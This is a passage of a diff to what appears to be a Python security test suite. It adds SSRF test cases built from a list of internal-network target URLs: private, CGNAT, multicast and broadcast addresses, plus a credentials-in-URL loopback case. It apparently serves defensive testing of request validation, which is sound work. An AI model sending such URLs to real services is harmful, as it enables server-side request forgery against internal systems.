+        "private-172-16": "http://172.16.0.1/budget.xml",
+        "private-172-31": "http://172.31.255.254/budget.xml",
+        "private-192-168": "http://192.168.1.1/budget.xml",
+        "unique-local-v6": "http://[fc00::1]/budget.xml",
+        "cgnat": "http://100.64.0.1/budget.xml",
+        "multicast": "http://224.0.0.1/budget.xml",
+        "broadcast": "http://255.255.255.255/budget.xml",
+        "credentials-in-url": f"http://user@127.0.0.1:{port}/ssrf.xml",
+    }
+    return [Case(f"ssrf-{name}", "ssrf", "ssrf", url=url) for name, url in targets.items()]
